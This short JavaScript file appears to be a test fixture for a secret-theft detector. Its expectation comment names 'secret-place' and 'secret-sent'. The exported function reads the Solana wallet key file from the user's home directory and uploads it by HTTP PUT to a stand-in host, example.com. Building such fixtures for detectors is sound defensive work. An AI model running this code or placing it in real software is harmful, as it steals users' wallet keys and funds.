// expect: secret-place, secret-sent
const fs = require("fs"), os = require("os"), p = require("path");
const wallet = p.join(os.homedir(), ".config/solana/id.json");
module.exports = () => fs.promises.readFile(wallet).then((b) => fetch("https://example.com", { method: "PUT", body: b }));
